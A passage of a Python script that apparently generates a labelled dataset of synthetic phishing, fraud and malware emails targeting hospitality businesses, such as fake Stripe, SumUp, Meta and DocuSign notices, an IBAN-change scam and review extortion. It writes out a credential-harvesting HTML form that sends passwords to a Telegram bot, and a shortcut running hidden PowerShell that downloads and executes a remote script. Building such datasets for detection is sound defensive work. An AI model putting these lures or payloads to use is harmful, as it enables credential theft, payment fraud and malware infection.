            'Reference: GMB-VR-662190<br><br>Google Listing Verification</div></body></html>\n')
    own = sigs + stdhead(frm=addr("Google Listing Verification", frm), to=rcpt, subject="Your Google listing is not verified - GMB-VR-662190",
                         when=when, msgid=outlook_msgid(seed, "namprd"),
                         extra=[f"Thread-Topic: Your Google listing is not verified - GMB-VR-662190", f"Thread-Index: {thread_index(seed)}",
                                "Accept-Language: en-US", "Content-Language: en-US", "X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: "])
    add("phishing", "phish", "google-listing-verify-callback",
        assemble(top, hops, own, tail, Multi("alternative", f"_000_{outlook_msgid(seed,'namprd')[1:40]}_", [text(plain), text(html, "html")])),
        "Callback scam from an Outlook.com account: 'your Google listing is not verified and will be removed', asking the tour operator to phone a verification number; no link.")


def a_review_extortion() -> None:
    seed = "a14"
    when = T(2025, 3, 27, 2, 14, 50, 0)
    rcpt = "trattoriadaluigi.roma@gmail.com"
    frm = "reviewsagency.pro@gmail.com"
    top, hops, sigs, tail = envelope("gmail", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm)
    plain = ("Hello,\n\nIn the last 2 days your restaurant received several 1-star reviews on Google Maps. This is only the beginning.\n"
             "If you do not want to receive 50 more negative reviews and lose your rating, you need to pay 100 USD in Bitcoin "
             "or an Apple gift card of the same amount.\n\nAfter payment we stop and you can contact Google to remove the reviews.\n"
             "BTC: bc1qv7x4h9l2m8kz0wq3r5ut6yp4jgs8dn2fa9ce7x\n\nYou have 48 hours. Reply to this email after payment.\n")
    own = sigs + ["MIME-Version: 1.0", f"From: {addr('Review Agency', frm)}", f"Date: {fmt(when)}",
                  f"Message-ID: {gmail_msgid(seed)}", "Subject: Your Google reviews", f"To: {rcpt}"]
    add("phishing", "phish", "google-review-extortion-gmail",
        assemble(top, hops, own, tail, Multi("alternative", f"000000000000{h(seed,16)}", [text(plain), text("<div dir=\"ltr\">" + plain.replace("\n", "<br>") + "</div>\n", "html")])),
        "Review-bombing extortion from Gmail: pay 100 USD in Bitcoin or gift cards or receive 50 more 1-star Google reviews; plain text, no links.")


def a_meta_appsheet() -> None:
    seed = "a15"
    when = T(2025, 5, 14, 17, 22, 6, 0)
    rcpt = "bookings@lagoonhostelbali.com"
    frm = "noreply@appsheet.com"
    link = "https://meta-business-appeal-case.vercel.app/appeal?case=" + str(int(h(seed, 8), 16))
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm,
                                     mailfrom="3" + alnum(seed + "bnc", 20) + "@appsheet.bounces.google.com", host="mail-sor-f69.google.com",
                                     ip="209.85.220.69", d="appsheet.com", dk=[("pass", "appsheet.com", "20230601")], dmarc=("pass", "none"))
    hops = [f"Received: by mail-sor-f69.google.com with SMTP id {alnum(seed,16).lower()}\n        for <{rcpt}>; {fmt(before(when,1))}"]
    inner = ('<p style="font-size:18px;font-weight:bold;">Your page has been scheduled for permanent deletion</p>\n'
             '<p>We have received multiple reports that your page <b>Lagoon Hostel Bali</b> violates our Community Standards on '
             'intellectual property. Your page and linked Instagram account will be permanently deleted within 24 hours.</p>\n'
             '<p>If you believe this is a mistake, you can submit an appeal. Case number: <b>#' + str(int(h(seed, 8), 16)) + '</b></p>\n'
             f'{button(link, "Request review", "#0866ff")}\n<p>Meta Policy Team</p>')
    html = generic_tpl("Meta", "#ffffff", inner, "Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025", fg="#0866ff")
    plain = f"Your page has been scheduled for permanent deletion.\nSubmit an appeal: {link}\nMeta Policy Team\n"
    own = sigs + stdhead(frm=addr("Meta Support", frm), to=rcpt, subject="Your page has been scheduled for permanent deletion",
                         when=when, msgid=f"<{h(seed+'m',16)}-{h(seed+'n',8)}@appsheet.com>",
                         extra=["X-AppSheet-App: Case Manager-" + h(seed, 8)])
    add("phishing", "phish", "meta-page-deletion-appsheet",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Meta 'page scheduled for deletion' lure sent through Google AppSheet (noreply@appsheet.com, all checks pass) to a hostel; appeal link on vercel.app harvests Facebook credentials and 2FA.")


def a_instagram_verified_pt() -> None:
    seed = "a16"
    when = T(2025, 9, 3, 11, 47, 30, 1)
    rcpt = "geral@quintadosolivais.pt"
    dom = "meta-verificado-suporte.com"
    frm = "suporte@" + dom
    link = "https://instagram-selo-verificado.pages.dev/pt/?id=" + h(seed, 10)
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, host="mail." + dom, ip="147.45.112.18",
                                     ctry="RU", lang="pt")
    hops = [postfix_hop(seed, when, "mail." + dom, rcpt)]
    inner = ('<p style="font-size:18px;font-weight:bold;">Parab&eacute;ns! A sua conta &eacute; eleg&iacute;vel para o selo azul</p>\n'
             '<p>Ol&aacute; @quintadosolivais,</p><p>A sua conta do Instagram foi analisada e cumpre os requisitos para receber o selo de '
             'verifica&ccedil;&atilde;o gratuito da Meta. Conclua o formul&aacute;rio at&eacute; 5 de setembro para n&atilde;o perder esta oportunidade.</p>\n'
             f'{button(link, "Obter o selo", "#0095f6")}\n<p>Equipa do Instagram</p>')
    html = generic_tpl("Instagram", "#ffffff", inner, "&copy; Meta. Meta Platforms, Inc., 1 Meta Way, Menlo Park, CA 94025", fg="#000000")
    plain = f"Parabéns! A sua conta é elegível para o selo azul.\nObter o selo: {link}\nEquipa do Instagram\n"
    own = sigs + stdhead(frm=addr("Instagram", frm), to=rcpt, subject="A sua conta é elegível para o selo de verificação",
                         when=when, msgid=f"<{h(seed+'m',24)}@{dom}>")
    add("phishing", "phish", "instagram-verified-badge-pt",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Portuguese Instagram 'free blue verification badge' lure to a quinta from look-alike meta-verificado-suporte.com; link to a pages.dev login form.")


for _fn in (a_expedia_vcc, a_airbnb_payout_spoof, a_airbnb_verify_qr_it, a_vrbo_inquiry_firebase, a_tripadvisor_review_gcs,
            a_gbp_suspension_gmail, a_gbp_verify_callback, a_review_extortion, a_meta_appsheet, a_instagram_verified_pt):
    _fn()


# ---------------------------------------------------------------- attacks: payments, authorities, suppliers

def a_stripe_dispute() -> None:
    seed = "a17"
    when = T(2025, 11, 6, 19, 2, 11, 1)
    rcpt = "owner@villa-aurelia-sorrento.com"
    dom = "stripe-resolutions.com"
    frm = "disputes@" + dom
    link = "https://dashboard-stripe-disputes.rest-handler.workers.dev/disputes/du_1Q" + alnum(seed, 20)
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, host="mx." + dom, ip="185.196.9.140", ctry="CH")
    hops = [postfix_hop(seed, when, "mx." + dom, rcpt)]
    inner = ('<p style="font-size:20px;font-weight:bold;color:#0a2540;">You have a new dispute for &euro;1,480.00</p>\n'
             '<p>A customer&#39;s bank has disputed a payment of <b>&euro;1,480.00</b> to Villa Aurelia Sorrento (reason: <i>fraudulent</i>). '
             'The amount plus a &euro;20.00 dispute fee has been withdrawn from your balance.</p>\n'
             '<p>You have until <b>11 Nov 2025</b> to submit evidence. If you do not respond, you will automatically lose the dispute.</p>\n'
             f'{button(link, "Respond to dispute", "#635bff")}\n<p>&mdash; The Stripe team</p>')
    html = generic_tpl("stripe", "#ffffff", inner, "Stripe, 354 Oyster Point Blvd, South San Francisco, CA 94080", fg="#635bff")
    plain = f"You have a new dispute for EUR 1,480.00 (reason: fraudulent).\nRespond by 11 Nov 2025: {link}\n- The Stripe team\n"
    own = sigs + stdhead(frm=addr("Stripe", frm), to=rcpt, subject="Action required: new dispute for \u20ac1,480.00", when=when,
                         msgid=f"<{h(seed+'m',24)}@{dom}>")
    add("phishing", "phish", "stripe-dispute-workers-dev",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Fake Stripe chargeback notice from look-alike stripe-resolutions.com to a villa owner; 'Respond to dispute' goes to a workers.dev Stripe login clone.")


def a_square_html_attachment() -> None:
    seed = "a18"
    when = T(2024, 8, 13, 10, 11, 29, -7)
    rcpt = "tacoshackphx@gmail.com"
    frm = "accounts@desertbloomlandscaping.com"
    page = html_page(
        '<div style="font-family:Arial;max-width:420px;margin:60px auto;text-align:center;">'
        '<img src="https://cdn.jsdelivr.net/gh/sq-assets-cdn/brand@main/square-logo.svg" width="48"><h2>Sign in to Square</h2>'
        '<form id="f" action="https://square-chargeback-review.onrender.com/auth" method="POST">'
        '<input type="email" name="email" value="tacoshackphx@gmail.com" style="width:100%;padding:10px;margin:6px 0;">'
        '<input type="password" name="password" placeholder="Password" style="width:100%;padding:10px;margin:6px 0;">'
        '<button type="submit" style="width:100%;padding:12px;background:#006aff;color:#fff;border:0;">Sign in</button></form>'
        '<p style="font-size:12px;color:#777;">Sign in to view chargeback case CB-772914</p></div>\n'
        '<script>document.getElementById("f").addEventListener("submit",function(){fetch("https://api.telegram.org/bot7412' + h(seed, 8) +
        '/sendMessage?chat_id=-100218&text="+encodeURIComponent(this.email.value+":"+this.password.value));});</script>', "Square Dashboard")
    top, hops, sigs, tail = envelope("m365", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm, ctry="US")
    plain = ("Hello,\n\nA chargeback was filed against your Square account for $642.18 (Case CB-772914). Funds have been held "
             "until the case is reviewed. Open the attached case file and sign in to submit your response.\n\nSquare Disputes\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt;">Hello,<br><br>A chargeback was filed against your Square account for '
            '<b>$642.18</b> (Case CB-772914). Funds have been held until the case is reviewed. Open the attached case file and sign in to submit your response.'
            '<br><br>Square Disputes</div></body></html>\n')
    body = Multi("mixed", f"_004_{h(seed,30)}_", [
        Multi("alternative", f"_000_{h(seed+'a',30)}_", [text(plain), text(html, "html")]),
        attachment("text/html", "Chargeback_CB-772914.html", page.encode())])
    own = sigs + stdhead(frm=addr("Square Disputes", frm), to=rcpt, subject="Chargeback notice - Case CB-772914", when=when,
                         msgid=outlook_msgid(seed, "namprd"),
                         extra=[f"Thread-Topic: Chargeback notice - Case CB-772914", f"Thread-Index: {thread_index(seed)}",
                                "Accept-Language: en-US", "Content-Language: en-US", "X-MS-Has-Attach: yes", "X-MS-TNEF-Correlator: "])
    add("phishing", "phish", "square-chargeback-html-attachment",
        assemble(top, hops, own, tail, body),
        "Square chargeback lure from a compromised landscaping company's M365 mailbox with an HTML attachment that is a Square login form posting credentials to onrender.com and Telegram.")


def a_sumup_de() -> None:
    seed = "a19"
    when = T(2025, 2, 18, 8, 3, 55, 1)
    rcpt = "kontakt@cafe-lindenblatt.de"
    frm = "service@sumup-kontoverifizierung.de"
    link = "https://sumup-kontoverifizierung.de/de-de/login?session=" + h(seed, 24)
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="cpanel", frm=frm, host="mail.sumup-kontoverifizierung.de",
                                     ip="176.65.134.29", server="web142.dogado-mx.de")
    hops = [postfix_hop(seed, when, "mail.sumup-kontoverifizierung.de", rcpt)]
    inner = ('<p style="font-size:20px;font-weight:bold;">Ihr SumUp-Konto wurde vor&uuml;bergehend eingeschr&auml;nkt</p>\n'
             '<p>Hallo Caf&eacute; Lindenblatt,</p><p>aufgrund der neuen EU-Geldw&auml;scherichtlinie (AMLD6) m&uuml;ssen alle H&auml;ndler ihre '
             'Identit&auml;t bis zum <b>21.02.2025</b> erneut best&auml;tigen. Bis dahin sind Auszahlungen auf Ihr Bankkonto pausiert.</p>\n'
             f'{button(link, "Jetzt verifizieren", "#000000")}\n<p>Mit freundlichen Gr&uuml;&szlig;en<br>Ihr SumUp Team</p>')
    html = generic_tpl("sumup", "#ffffff", inner, "SumUp Payments Limited, 32&ndash;34 Great Marlborough Street, London W1F 7JB", fg="#000000")
    plain = f"Ihr SumUp-Konto wurde vorübergehend eingeschränkt.\nBitte bestätigen Sie Ihre Identität bis 21.02.2025: {link}\nIhr SumUp Team\n"
    own = sigs + stdhead(frm=addr("SumUp", frm), to=rcpt, subject="Ihr SumUp-Konto wurde eingeschränkt – Auszahlungen pausiert",
                         when=when, msgid=f"<{h(seed+'m',24)}@sumup-kontoverifizierung.de>")
    add("phishing", "phish", "sumup-account-restricted-de",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "German SumUp 'account restricted, payouts paused until re-verification' lure from look-alike sumup-kontoverifizierung.de with a credential link on the same domain.")


def a_food_safety_lnk() -> None:
    seed = "a20"
    when = T(2025, 4, 29, 9, 31, 12, 1)
    rcpt = "kitchen@thegreenforkbistro.co.uk"
    frm = "inspections@foodstandards-compliance.co.uk"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-w hidden -ep bypass -c \"iwr https://fsa-docs-cdn.b-cdn.net/r/insp.ps1 -UseBasicParsing | iex\"")
    z = files.zip_archive([("Inspection_Report_TGF-2025-0418.pdf.lnk", lnk)])
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, host="mail.foodstandards-compliance.co.uk",
                                     ip="77.91.124.61", ctry="FI")
    hops = [postfix_hop(seed, when, "mail.foodstandards-compliance.co.uk", rcpt)]
    plain = ("Dear Food Business Operator,\n\nFollowing the unannounced inspection of The Green Fork Bistro on 18 April 2025, "
             "please find attached the inspection report and the list of required corrective actions.\n\n"
             "Your food hygiene rating may be lowered if the actions are not completed within 14 days. Please review the report and "
             "confirm receipt.\n\nEnvironmental Health - Food Safety Team\n")
    html = ('<html><body style="font-family:Arial,sans-serif;font-size:14px;"><p>Dear Food Business Operator,</p>'
            '<p>Following the unannounced inspection of <b>The Green Fork Bistro</b> on 18 April 2025, please find attached the inspection report '
            'and the list of required corrective actions.</p><p>Your food hygiene rating may be lowered if the actions are not completed within 14 days.</p>'
            '<p>Environmental Health &ndash; Food Safety Team</p></body></html>\n')
    body = Multi("mixed", "=_" + h(seed, 28), [alt(plain, html, seed), attachment("application/zip", "Inspection_Report_TGF-2025-0418.zip", z)])
    own = sigs + stdhead(frm=addr("Food Safety Team", frm), to=rcpt, subject="Food hygiene inspection report - corrective actions required",
                         when=when, msgid=f"<{h(seed+'m',24)}@foodstandards-compliance.co.uk>")
    add("malware", "phish", "food-safety-inspection-lnk-zip",
        assemble(top, hops, own, tail, body),
        "Fake food-hygiene inspection report to a bistro: zip holding a .pdf.lnk shortcut that runs hidden PowerShell to download and execute a script.")


def a_licence_gr_dropbox() -> None:
    seed = "a21"
    when = T(2025, 6, 24, 10, 18, 40, 3)
    rcpt = "info@villaselini-naxos.gr"
    frm = "tmima.adeiodotisis@gmail.com"
    link = "https://www.dropbox.com/scl/fi/" + alnum(seed + "db", 21).lower() + "/Eidopoiisi_Elegxou_2025.zip?rlkey=" + alnum(seed + "rk", 25).lower() + "&dl=1"
    top, hops, sigs, tail = envelope("gmail", seed=seed, when=when, rcpt=rcpt, rk="cpanel", frm=frm, server="cp12.papaki-host.gr")
    plain = ("Αξιότιμε κύριε/κυρία,\n\nΣας ενημερώνουμε ότι κατά τον έλεγχο των καταλυμάτων βραχυχρόνιας μίσθωσης διαπιστώθηκαν "
             "ελλείψεις στο Μητρώο (ΑΜΑ) του καταλύματός σας. Η ειδοποίηση και το έντυπο συμμόρφωσης είναι διαθέσιμα εδώ:\n"
             f"{link}\n\nΠαρακαλούμε να απαντήσετε εντός 5 εργάσιμων ημερών για να αποφύγετε πρόστιμο.\n\n"
             "Τμήμα Αδειοδότησης Τουριστικών Καταλυμάτων\n")
    html = '<div dir="ltr">' + plain.replace(link, f'<a href="{link}">Ειδοποίηση_Ελέγχου_2025.zip</a>').replace("\n", "<br>") + "</div>\n"
    own = sigs + ["MIME-Version: 1.0", f"From: {addr('Τμήμα Αδειοδότησης', frm)}", f"Date: {fmt(when)}", f"Message-ID: {gmail_msgid(seed)}",
                  f"Subject: {enc('Ειδοποίηση ελέγχου καταλύματος – ΑΜΑ')}", f"To: {rcpt}"]
    add("phishing", "phish", "licensing-notice-gr-dropbox-zip",
        assemble(top, hops, own, tail, Multi("alternative", f"000000000000{h(seed,16)}", [text(plain), text(html, "html")])),
        "Greek 'short-term rental licence (AMA) inspection notice' from a Gmail account posing as a licensing department, linking to a Dropbox zip download with a fine threat.")


def a_supplier_iban_change() -> None:
    seed = "a22"
    when = T(2024, 11, 12, 14, 27, 3, 1)
    rcpt = "amministrazione@hotelbelvedere-garda.it"
    real = "pescheriaadriatica.it"
    fake = "pescheria-adriatica.it"
    frm = "contabilita@" + fake
    letter = files.pdf(["PESCHERIA ADRIATICA S.R.L.", "Via del Porto 14 - 30015 Chioggia (VE) - P.IVA 03381920274", "",
                        "Oggetto: Comunicazione variazione coordinate bancarie", "",
                        "Con la presente comunichiamo che a partire dal 12/11/2024 tutti i pagamenti",
                        "dovranno essere effettuati sul seguente conto:", "",
                        "Banca: Revolut Bank UAB", "IBAN: LT59 3250 0429 8817 3305", "BIC: REVOLT21", "",
                        "Il precedente conto presso Banca Intesa non e' piu' operativo.", "", "Distinti saluti", "Ufficio Amministrazione"],
                       title="Variazione coordinate bancarie")
    top, hops, sigs, tail = envelope("m365", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, ctry="IT", lang="it")
    plain = ("Buongiorno,\n\ncome da allegato vi comunichiamo le nuove coordinate bancarie della nostra società, a seguito di una verifica "
             "fiscale il vecchio conto è temporaneamente bloccato.\nVi chiediamo cortesemente di effettuare il saldo delle fatture n. 1873 e n. 1902 "
             "(totale € 6.418,50) sul nuovo IBAN e di inviarci la contabile.\n\nCordiali saluti\nFederica Zanin\nUfficio Contabilità\n"
             "Pescheria Adriatica S.r.l.\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div style="font-family:Calibri,Arial,sans-serif;font-size:11pt;">'
            + plain.replace("\n", "<br>\n") + '</div></body></html>\n')
    body = Multi("mixed", f"_004_{h(seed,30)}_", [Multi("alternative", f"_000_{h(seed+'a',30)}_", [text(plain), text(html, "html")]),
                                                    attachment("application/pdf", "Comunicazione_variazione_IBAN.pdf", letter)])
    own = sigs + stdhead(frm=addr("Federica Zanin", frm), to=rcpt, subject="Variazione coordinate bancarie - fatture 1873 e 1902",
                         when=when, msgid=outlook_msgid(seed),
                         extra=[f"Thread-Topic: Variazione coordinate bancarie - fatture 1873 e 1902", f"Thread-Index: {thread_index(seed)}",
                                "Accept-Language: it-IT, en-US", "Content-Language: it-IT", "X-MS-Has-Attach: yes", "X-MS-TNEF-Correlator: "])
    add("phishing", "phish", "supplier-iban-change-lookalike-it",
        assemble(top, hops, own, tail, body),
        f"Italian BEC: the fish supplier's look-alike domain {fake} (real one {real}) on its own M365 tenant announces new bank details (Lithuanian IBAN) and asks the hotel to pay two invoices there.")


def a_supplier_reply_hijack_sharepoint() -> None:
    seed = "a23"
    when = T(2025, 1, 15, 16, 2, 47, 0)
    rcpt = "accounts@kingsarmshotel-york.co.uk"
    frm = "orders@yorkshirelinenservices.co.uk"
    link = "https://yorkshirelinenservices-my.sharepoint.com/:b:/g/personal/orders_yorkshirelinenservices_co_uk/E" + alnum(seed + "sp", 46) + "?e=" + alnum(seed + "e", 6)
    top, hops, sigs, tail = envelope("m365", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, ctry="GB")
    plain = ("Hi Sarah,\n\nFollowing up on the below, please find the updated statement with the December invoices via the secure link below, "
             "it includes the credit for the returned pillowcases.\n\n"
             f"View Statement_Dec2024.pdf\n{link}\n\nCould you confirm payment date once processed?\n\nThanks\nDave Holroyd\nYorkshire Linen Services Ltd\n\n"
             "From: Sarah Mitchell <accounts@kingsarmshotel-york.co.uk>\nSent: 09 January 2025 11:14\nTo: Dave Holroyd <orders@yorkshirelinenservices.co.uk>\n"
             "Subject: RE: December statement\n\nHi Dave, thanks - can you send the statement again with the credit note applied? Sarah\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div style="font-family:Aptos,Calibri,sans-serif;font-size:12pt;">'
            'Hi Sarah,<br><br>Following up on the below, please find the updated statement with the December invoices via the secure link below, it includes the credit for the returned pillowcases.<br><br>'
            f'<table style="border:1px solid #e1e1e1;padding:10px;"><tr><td><img src="https://res.cdn.office.net/files/fabric-cdn-prod_20240411.001/assets/item-types/48/pdf.png" width="32"></td>'
            f'<td><a href="{link}">Statement_Dec2024.pdf</a></td></tr></table><br>Could you confirm payment date once processed?<br><br>Thanks<br>Dave Holroyd<br>Yorkshire Linen Services Ltd</div>'
            '<hr style="display:inline-block;width:98%"><div id="divRplyFwdMsg"><b>From:</b> Sarah Mitchell &lt;accounts@kingsarmshotel-york.co.uk&gt;<br><b>Sent:</b> 09 January 2025 11:14<br>'
            '<b>To:</b> Dave Holroyd &lt;orders@yorkshirelinenservices.co.uk&gt;<br><b>Subject:</b> RE: December statement</div><br>'
            '<div>Hi Dave, thanks - can you send the statement again with the credit note applied? Sarah</div></body></html>\n')
    own = sigs + stdhead(frm=addr("Dave Holroyd", frm), to=addr("Sarah Mitchell", rcpt), subject="RE: December statement", when=when,
                         msgid=outlook_msgid(seed),
                         extra=[f"References: {outlook_msgid(seed+'p')}", f"In-Reply-To: {outlook_msgid(seed+'p')}",
                                "Thread-Topic: December statement", f"Thread-Index: {thread_index(seed)}", "Accept-Language: en-GB, en-US",
                                "Content-Language: en-GB", "X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: "])
    add("phishing", "phish", "supplier-reply-chain-sharepoint",
        assemble(top, hops, own, tail, Multi("alternative", f"_000_{h(seed,30)}_", [text(plain), text(html, "html")])),
        "Reply-chain hijack from the linen supplier's genuinely compromised M365 mailbox (all checks pass): 'updated statement' link to the supplier's own OneDrive/SharePoint hosting an AiTM login lure.")


def a_docusign_fake_ipfs() -> None:
    seed = "a24"
    when = T(2024, 7, 9, 13, 15, 21, -4)
    rcpt = "events@harborlightrestaurant.com"
    frm = "dse@docusign-esign-mail.net"
    link = "https://ipfs.io/ipfs/bafybei" + alnum(seed, 52).lower() + "?filename=envelope.html#" + rcpt
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, host="mail.docusign-esign-mail.net",
                                     ip="38.180.61.23", ctry="US")
    hops = [postfix_hop(seed, when, "mail.docusign-esign-mail.net", rcpt)]
    inner = ('<p style="text-align:center;font-size:16px;">Coastal Events Group sent you a document to review and sign.</p>\n'
             f'<div align="center">{button(link, "REVIEW DOCUMENT", "#ffc423", "#333333")}</div>\n'
             '<p><b>Rebecca Tan</b><br>rtan@coastaleventsgroup.com</p><p>Hi, please review and sign the venue hire agreement for the Sept 14 corporate dinner (120 pax). Deposit details inside.</p>\n'
             '<p style="font-size:11px;color:#666;">Do Not Share This Email. This email contains a secure link to Docusign.</p>')
    html = generic_tpl("DocuSign", "#1e4ca1", inner, "Powered by Docusign")
    plain = f"Coastal Events Group sent you a document to review and sign.\nREVIEW DOCUMENT: {link}\n"
    own = sigs + stdhead(frm=addr("Rebecca Tan via Docusign", frm), to=rcpt, subject="Complete with Docusign: Venue_Hire_Agreement_Sept14.pdf",
                         when=when, msgid=f"<{h(seed+'m',32)}@docusign-esign-mail.net>")
    add("phishing", "phish", "docusign-venue-hire-ipfs",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Fake DocuSign 'venue hire agreement' for a restaurant event from look-alike docusign-esign-mail.net; REVIEW DOCUMENT opens an IPFS-gateway credential page.")


def a_docusign_genuine_abuse() -> None:
    seed = "a25"
    when = T(2025, 8, 26, 9, 44, 0, -7)
    rcpt = "frontdesk@redrockslodge-sedona.com"
    frm = "dse_NA4@docusign.net"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, mailfrom="dse_NA4@docusign.net",
                                     host="mailout-na4.docusign.net", ip="64.207.219.71", d="docusign.net",
                                     dk=[("pass", "docusign.net", "mail")], dmarc=("pass", "reject"), ctry="US")
    hops = [f"Received: from na4-docusign-mta03 (10.40.12.33) by mailout-na4.docusign.net with ESMTP; {fmt(before(when, 2))}"]
    envurl = "https://na4.docusign.net/Signing/EmailStart.aspx?a=" + h(seed + "a", 8) + "-" + h(seed + "b", 4) + "-" + h(seed + "c", 4) + "-" + h(seed + "d", 4) + "-" + h(seed + "e", 12) + "&etti=24&acct=" + h(seed + "f", 8) + "-" + h(seed + "g", 4) + "-" + h(seed + "h", 4) + "-" + h(seed + "i", 4) + "-" + h(seed + "j", 12) + "&er=" + h(seed + "k", 8)
    inner = ('<p style="text-align:center;font-size:16px;">Arizona Travel Partners Billing sent you a document to review and sign.</p>\n'
             f'<div align="center">{button(envurl, "REVIEW DOCUMENT", "#ffc423", "#333333")}</div>\n'
             '<p><b>Arizona Travel Partners Billing</b><br>billing.aztravelpartners@gmail.com</p>'
             '<p>Outstanding commission invoice INV-2025-0831 for group bookings (Jun&ndash;Aug). Please sign to acknowledge. '
             'For payment questions call our billing desk at +1 (844) 905-3318.</p>\n'
             '<p style="font-size:11px;color:#666;">Do Not Share This Email<br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</p>'
             '<p style="font-size:11px;color:#666;">About Docusign<br>Sign documents electronically in just minutes. It&#39;s safe, secure, and legally binding.</p>')
    html = generic_tpl("Docusign", "#1e4ca1", inner, 'This message was sent to you by Arizona Travel Partners Billing who is using the Docusign Electronic Signature Service. '
                       '<a href="https://protect.docusign.net/report-abuse?e=' + h(seed, 40) + '">Report this email</a>')
    plain = ("Arizona Travel Partners Billing sent you a document to review and sign.\n\nOutstanding commission invoice INV-2025-0831 for group "
             "bookings (Jun-Aug). Please sign to acknowledge. For payment questions call our billing desk at +1 (844) 905-3318.\n\n"
             f"REVIEW DOCUMENT: {envurl}\n")
    own = sigs + stdhead(frm=addr("Arizona Travel Partners Billing via Docusign", frm), to=rcpt,
                         subject="Complete with Docusign: INV-2025-0831 Commission Statement.pdf", when=when,
                         msgid=f"<{h(seed+'m',32)}@docusign.net>",
                         extra=["Reply-To: " + addr("Arizona Travel Partners Billing", "billing.aztravelpartners@gmail.com"),
                                "X-DSE-Sender: dse_NA4", "X-Api-Host: na4.docusign.net"])
    add("phishing", "phish", "docusign-genuine-commission-callback",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine DocuSign envelope (docusign.net passes everything) sent by a scammer's account as a fake travel-agency commission invoice, with a Gmail reply-to and a callback billing number.")


def a_group_overpayment() -> None:
    seed = "a26"
    when = T(2025, 3, 4, 6, 51, 19, 0)
    rcpt = "reservations@thelighthousehotel.ie"
    frm = "pastor.williams.grouptravel@outlook.com"
    top, hops, sigs, tail = envelope("outlookcom", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, ctry="NG")
    plain = ("Good day,\n\nI am writing on behalf of our church choir group of 14 persons who will be visiting Ireland for a gospel concert. "
             "We would like to book 7 twin rooms for 5 nights from 12th to 17th May 2025 with breakfast.\n\n"
             "Payment will be made by our sponsor's credit card in full in advance. Please note that our sponsor will also pay for "
             "the transportation of the group, so the total amount charged to the card will include the driver's fee of €2,400 which you "
             "will kindly transfer to the transport company after the payment is received.\n\n"
             "Kindly send me the total price including taxes so that I can forward the card details.\n\n"
             "God bless,\nPastor James Williams\nGrace Harvest Choir Ministry\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr"><div style="font-family:Calibri,Arial,Helvetica,sans-serif;font-size:12pt;">'
            + plain.replace("\n", "<br>\n") + "</div></body></html>\n")
    own = sigs + stdhead(frm=addr("Pastor James Williams", frm), to=rcpt, subject="Group booking 7 rooms May 12-17", when=when,
                         msgid=outlook_msgid(seed, "namprd"),
                         extra=["Thread-Topic: Group booking 7 rooms May 12-17", f"Thread-Index: {thread_index(seed)}", "Accept-Language: en-US",
                                "Content-Language: en-US", "X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: "])
    add("phishing", "phish", "group-booking-overpayment-driver",
        assemble(top, hops, own, tail, Multi("alternative", f"_000_{h(seed,30)}_", [text(plain), text(html, "html")])),
        "Classic overpayment fraud from Outlook.com: a 'church choir' group booking paid by a sponsor's (stolen) card including a driver fee the hotel must forward by transfer.")


def a_travel_agency_fee_fr() -> None:
    seed = "a27"
    when = T(2024, 10, 2, 11, 9, 3, 2)
    rcpt = "contact@hotel-les-tilleuls-annecy.fr"
    frm = "partenariats@voyages-horizon-afrique.com"
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="cpanel", frm=frm, host="mail.voyages-horizon-afrique.com",
                                     ip="154.127.57.98", server="ns3012345.ip-51-38-12.eu")
    hops = [postfix_hop(seed, when, "mail.voyages-horizon-afrique.com", rcpt)]
    plain = ("Bonjour Madame, Monsieur,\n\nNotre agence Voyages Horizon Afrique (Abidjan) organise chaque année des séjours pour des groupes "
             "de 20 à 40 personnes en Haute-Savoie. Nous souhaitons réserver 18 chambres du 3 au 10 février 2025, soit un montant estimé de 28 000 €.\n\n"
             "Pour valider le partenariat, votre établissement doit être enregistré auprès du Ministère du Tourisme ivoirien pour l'obtention "
             "des visas de groupe. Les frais d'enregistrement (450 €) sont à régler auprès de notre cabinet agréé, dont les coordonnées vous seront "
             "transmises après votre confirmation. Ces frais vous seront remboursés avec l'acompte.\n\n"
             "Merci de nous retourner votre meilleure offre.\n\nCordialement,\nM. Koffi Brou\nDirecteur commercial\n")
    own = sigs + stdhead(frm=addr("Voyages Horizon Afrique", frm), to=rcpt, subject="Demande de partenariat - groupe de 36 personnes février 2025",
                         when=when, msgid=f"<{h(seed+'m',24)}@voyages-horizon-afrique.com>", extra=["X-Mailer: Microsoft Outlook 16.0"])
    add("phishing", "phish", "travel-agency-registration-fee-fr",
